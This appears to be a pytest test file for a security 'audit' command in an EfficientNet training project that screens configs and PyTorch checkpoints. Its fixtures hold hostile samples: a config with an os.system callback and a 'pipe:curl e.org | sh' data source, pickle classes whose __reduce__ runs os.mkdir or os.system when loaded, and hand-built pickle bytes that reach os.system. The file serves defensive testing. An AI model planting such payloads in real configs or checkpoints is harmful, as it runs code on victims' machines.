"""What a file could have imported is said, with its place, and nothing of it is."""

import json
import os
import pickle

import pytest
import torch

from effcc import cli
from effcc.catalog import layers
from effcc.nn import pickles, screen, weights
from effcc.nn.weights import BadCheckpoint

EVIL = """\
model: tf_efficientnet_cc_b0_4e
extends: shared_evil
trainer:
  callbacks:
  - {class_path: EarlyStopping, init_args: {monitor: val_loss}}
  - class_path: lightning.pytorch.callbacks.LambdaCallback
    init_args: {on_fit_start: os.system}
  logger: [csv, '{"class_path": "trap.Logger"}']
data: {source: shards, train: [a.tar, "pipe:curl e.org | sh"]}
recipe: {pretrained: ../weights.pth}
weights: {url: "http://e.org/x-0123abcd.pth"}
profiles:
  imagenet:
    trainer: {plugins: [evil.Plugin]}
"""


@pytest.fixture
def evil(project):
    """A variant that names code in itself, in what it extends, and in the profile of a source."""
    shared = (project.shared / "condconv.yaml").read_text("utf-8")
    (project.shared / "shared_evil.yaml").write_text(f"{shared}\ntrainer: {{profiler: x.Y}}\n")
    profile = project.shared / "folder.yaml"
    profile.write_text("trainer: {strategy: ddp, accelerator: a.B}\n")
    (project.registry / "evil.yaml").write_text(EVIL, "utf-8")
    return project


def audited(capsys, *words):
    code = cli.main(["audit", *words, "--json"])
    said = json.loads(capsys.readouterr().out)
    return code, {(f["file"], f["line"], f["key"], f["name"]): f for f in said["found"]}, said


def test_every_layer_is_looked_at_and_every_name_has_its_place(evil, capsys):
    code, found, said = audited(capsys, "registry/evil.yaml")
    assert code == 1
    refused = {key for key, lead in found.items() if lead["verdict"] == "refused"}
    mine = "registry/evil.yaml"
    assert refused == {
        (mine, 7, "trainer.callbacks[1].init_args.on_fit_start", "os.system"),
        (mine, 8, "trainer.logger[1]", '{"class_path": "trap.Logger"}'),
        (mine, 8, "trainer.logger[1]", "trap.Logger"),
        (mine, 9, "data.train[1]", "pipe:curl e.org | sh"),
        (mine, 11, "weights.url", "http://e.org/x-0123abcd.pth"),
        (mine, 14, "profiles.imagenet.trainer.plugins[0]", "evil.Plugin"),
        ("registry/shared/shared_evil.yaml", found_line(evil), "trainer.profiler", "x.Y"),
        ("registry/shared/folder.yaml", 1, "trainer.accelerator", "a.B"),
    }
    assert said["refused"] == len(refused)
    means = {lead["name"]: lead["means"] for lead in found.values()}
    assert means["csv"] == "effcc.train.logfiles.CSV"
    assert means["EarlyStopping"] == "lightning.pytorch.callbacks.EarlyStopping"
    assert means["ddp"] == "lightning.pytorch.strategies: ddp"
    assert "../weights.pth" in means


def found_line(home):
    lines = (home.shared / "shared_evil.yaml").read_text("utf-8").splitlines()
    return next(n for n, line in enumerate(lines, 1) if "x.Y" in line)


def test_a_run_refuses_what_the_audit_does(evil, capsys):
    text = EVIL.replace("data: {source: shards", "#").replace(
        "extends: shared_evil", "extends: condconv\nnetwork: {experts: 4}"
    )
    (evil.registry / "evil.yaml").write_text(text, "utf-8")
    _, found, _ = audited(capsys, "registry/evil.yaml")
    names = {f["name"] for f in found.values() if f["verdict"] == "refused"}
    assert cli.main(["fit", "--config", "registry/evil.yaml"]) == 3
    said = capsys.readouterr().err
    assert {"os.system", "trap.Logger"} <= {
        n for n in names if f"{n!r} may not be imported" in said
    }


def test_the_command_line_is_a_layer_too(project, capsys):
    words = ("registry/cc_b0_4e.yaml", "--trainer.callbacks", "os.system")
    code, found, _ = audited(capsys, *words)
    refused = [key for key, lead in found.items() if lead["verdict"] == "refused"]
    assert (code, [(key[2], key[3]) for key in refused]) == (
        1,
        [("trainer.callbacks", "os.system")],
    )
    typed = ("registry/cc_b0_4e.yaml", "--data.train", "pipe:cat a.tar")  # a person's own word
    assert audited(capsys, *typed)[0] == 0


def test_the_shipped_variants_and_records_name_nothing_that_is_refused(shipped, capsys):
    files = [*shipped.registry.glob("*.yaml"), *shipped.results.glob("cc_pico_4e/*.json")]
    assert len(files) > 5
    code, found, said = audited(capsys, *map(str, files))
    assert (code, said["refused"]) == (0, 0)
    assert any(lead["kind"] == "fetch" for lead in found.values())


def test_bad_files_end_with_3_and_all_their_problems(project, capsys):
    (project.registry / "bad.yaml").write_text("model: cc_b0_4e\ntrainer: 5\nextends: nothing\n")
    assert cli.main(["audit", "registry/bad.yaml", "nowhere.yaml", "registry"]) == 3
    said = capsys.readouterr().err
    for words in (
        "bad.yaml:2:10: trainer: expected",
        "nowhere.yaml: no such file",
        "registry: a fol",
    ):
        assert words in said
    with pytest.raises(SystemExit):
        cli.main(["audit"])


def test_text_says_the_verdict_and_the_list(evil, capsys):
    assert cli.main(["audit", "registry/evil.yaml"]) == 1
    said = capsys.readouterr().out
    line = (
        "registry/evil.yaml:7:31: trainer.callbacks[1].init_args.on_fit_start: refused, may not be"
    )
    assert f"{line} imported: import os.system\n" in said
    assert "allowed are names that begin with a capital, in: lightning.pytorch.loggers, " in said
    assert said.rstrip().endswith("8 refused")


STRAY = """\
model: tf_efficientnet_cc_b0_4e
extends: condconv
network: {experts: 4}
trainer:
  default_root_dir: ../up
  profiler: {class_path: SimpleProfiler, init_args: {dirpath: ~/home}}
  callbacks:
  - {class_path: ModelCheckpoint, init_args: {dirpath: kept/here, filename: "a/../../{epoch}"}}
  logger:
  - {class_path: CSVLogger, init_args: {save_dir: /elsewhere}}
  - {class_path: MLFlowLogger, init_args: {tracking_uri: "http://e.org/x", tags: {a: "C:\\\\x"}}}
  - {class_path: WandbLogger, init_args: {base_url: e.org}}
  - '{"class_path": "CSVLogger", "init_args": {"save_dir": "/inside"}}'
"""


def test_a_file_leads_nowhere_else_to_write_or_to_connect(project, capsys):
    (project.registry / "stray.yaml").write_text(STRAY, "utf-8")
    code, found, _ = audited(capsys, "registry/stray.yaml")
    led = {
        (key[1], key[3]): (lead["kind"], lead["why"])
        for key, lead in found.items()
        if lead["kind"] in ("write", "connect")
    }
    place = ("write", "a path out of the working folder may only be typed, as a flag")
    address = ("connect", "an address may only be typed, as a flag")
    assert led == {
        (5, "../up"): place,
        (6, "~/home"): place,
        (8, "a/../../{epoch}"): place,
        (10, "/elsewhere"): place,
        (11, "http://e.org/x"): address,
        (11, "C:\\x"): place,
        (12, "e.org"): address,
        (13, "/inside"): place,
    }
    assert code == 1
    assert cli.main(["fit", "--config", "registry/stray.yaml"]) == 3
    said = capsys.readouterr().err
    assert "registry/stray.yaml:9:3: trainer.logger: '/elsewhere' is a path out of the" in said
    assert "'http://e.org/x' is an address, which may only be typed, as a flag" in said
    assert all(repr(text) in said for _, text in led)


def test_what_somebody_types_may_lead_anywhere(project, capsys):
    typed = ("--trainer.default_root_dir", "/elsewhere")
    code, found, _ = audited(capsys, "registry/cc_b0_4e.yaml", *typed)
    (lead,) = [lead for lead in found.values() if lead["kind"] == "write"]
    assert (code, lead["name"], lead["verdict"]) == (0, "/elsewhere", "allowed")
    words = ["fit", "--config", "registry/cc_b0_4e.yaml", *typed, "--print_config"]
    assert cli.main(words) == 0


SHAPES = [5, "a", ["a"], [], {}, None, True, 1.5, {"a": 5}, {"a": ["b", {"c": None}]}, [[{}]]]
PLACES = ["", "profiles", "profiles.x", "settings", "weights"]
PLACES += ["data", "data.train", "data.source", "trainer", "trainer.logger", "recipe"]
PLACES += ["recipe.pretrained", "settings.trainer", "settings.data", "profiles.x.data.val"]


@pytest.mark.parametrize("place", PLACES)
def test_a_record_of_any_shape_is_looked_at(place, project, capsys):
    for shape in SHAPES:
        data = shape
        for name in reversed(place.split(".") if place else []):
            data = {name: data}
        (project.root / "s.json").write_text(json.dumps(data))
        assert cli.main(["audit", "s.json"]) in (0, 1, 3), data
        assert "Traceback" not in capsys.readouterr().err


# Checkpoints


class Runs:
    """Makes a folder when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


def saved(path, content, kind):
    if type(kind) is int:
        path.write_bytes(pickle.dumps(content, kind))
    else:
        torch.save(content, path, _use_new_zipfile_serialization=kind)
    return path


@pytest.mark.parametrize("kind", [True, False, 2, 3, 4, 5])
def test_what_a_checkpoint_would_import_is_named_and_not_imported(project, capsys, kind):
    ran = project.root / "ran"
    path = saved(project.root / "evil.ckpt", {"state_dict": {}, "x": Runs(ran)}, kind)
    code, found, _ = audited(capsys, str(path))
    assert code == 1
    assert [f["name"] for f in found.values() if f["verdict"] == "refused"] == ["posix.mkdir"]
    assert not ran.exists()


def test_tensors_are_harmless_and_settings_in_a_checkpoint_are_looked_at(project, capsys):
    weight = torch.nn.Parameter(torch.ones(2, dtype=torch.bfloat16))
    ours = {"variant": "x", "classes": [], "settings": {"trainer": {"callbacks": ["os.system"]}}}
    path = project.root / "a.ckpt"
    torch.save({"state_dict": {"a": weight, "b": torch.ones(3)}, "effcc": ours}, path)
    code, found, _ = audited(capsys, str(path))
    assert code == 1
    refused = [f for f in found.values() if f["verdict"] == "refused"]
    assert [(f["key"], f["name"]) for f in refused] == [("trainer.callbacks[0]", "os.system")]
    assert any(f["name"] == "torch._utils._rebuild_tensor_v2" for f in found.values())


# Each makes its name otherwise than pickle does.
BY_HAND = {
    "popped": b"\x80\x04\x8c\x02os\x8c\x06system\x8c\x0bcollections\x8c\x0bOrderedDict00\x93.",
    "kept": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94000h\x00h\x01\x93.",
    "swapped": b"\x80\x04\x8c\x02os\x8c\x06system\x8c\x01x0\x93.",
    "instance": b"\x80\x02(U\x02lsios\nsystem\n.",
    "extension": b"\x80\x02\x82\x01.",
}


@pytest.mark.parametrize("how", BY_HAND)
def test_a_name_that_is_made_by_hand_is_not_taken_for_a_harmless_one(tmp_path, how):
    path = tmp_path / "a.pth"
    path.write_bytes(BY_HAND[how])
    named = {found.name for found in pickles.named(path)}
    assert named & {"os.system", "a name that is made when it is read"}
    assert not any(screen.allows(name) for name in named)
    with pytest.raises(BadCheckpoint):
        weights.read(path)


@pytest.mark.parametrize("content", [b"", b"text", b"PK\x03\x04", b"\x80", b"\x80\x02"])
def test_what_is_no_checkpoint_is_said_to_be_none(tmp_path, content):
    path = tmp_path / "a.pth"
    path.write_bytes(content)
    with pytest.raises(BadCheckpoint, match=r"a\.pth: not a checkpoint"):
        pickles.named(path)


def test_what_torch_itself_calls_unsafe_is_what_we_do(tmp_path):
    path = saved(tmp_path / "a.pth", {"x": Runs("y"), "t": torch.ones(2), "d": {1: 2}}, True)
    ours = {found.name for found in pickles.named(path) if not screen.allows(found.name)}
    assert ours == set(torch.serialization.get_unsafe_globals_in_checkpoint(path))


def test_around_a_variant_stand_the_profiles_of_all_sources(shipped):
    documents = layers.around(shipped.registry / "cc_b0_4e.yaml", shipped)
    names = [document.file for document in documents]
    assert names[0] == "registry/cc_b0_4e.yaml"
    profiles = {path.stem for path in shipped.shared.glob("*.yaml")}
    assert {f"registry/shared/{name}.yaml" for name in profiles} >= set(names[1:])
    assert "registry/shared/digits.yaml" in names


def test_what_fits_no_schema_is_looked_at_all_the_same(project, capsys):
    path = project.registry / "worst.yaml"
    path.write_text("colour: 1\ntrainer: {callbacks: [os.system]}\n")
    code = cli.main(["audit", str(path)])
    said = capsys.readouterr()
    assert code == 3
    assert "trainer.callbacks[0]: refused, may not be imported: import os.system" in said.out
    assert "registry/worst.yaml:1:1: colour: unknown key" in said.err


class Touch:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch ran",)


@pytest.mark.parametrize("name", ["x.pkl", "model.pth.tar", "noext", "x.json", "x.yaml"])
@pytest.mark.parametrize("protocol", [2, 4])
def test_a_pickle_is_known_by_what_is_in_it(tmp_path, monkeypatch, capsys, name, protocol):
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(pickle.dumps(Touch(), protocol))
    assert cli.main(["audit", name]) == 1
    assert "refused, no tensor and no plain data: import posix.system" in capsys.readouterr().out
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("url", ["https://e.org/x.pth", "https://e.org/"])
def test_weights_that_nothing_could_be_held_against_are_not_said_to_be_fetched(
    project, capsys, url
):
    path = project.registry / "bare.yaml"
    lines = "model: tf_efficientnet_cc_b0_4e", "extends: condconv", "summary: s"
    path.write_text("\n".join((*lines, f"weights: {{url: '{url}'}}", "")))
    code, found, _ = audited(capsys, str(path))
    (lead,) = [lead for (*_, name), lead in found.items() if name == url]
    assert (code, lead["verdict"]) == (1, "refused")


def test_a_page_and_a_folder_are_said_to_be_that(project, capsys):
    for name, said in (("registry", "a folder; name files in it"), ("docs/x.md", "a page, from")):
        if name.endswith(".md"):
            (project.root / name).write_text("# x")
        assert cli.main(["audit", str(project.root / name)]) == 3
        assert said in capsys.readouterr().err
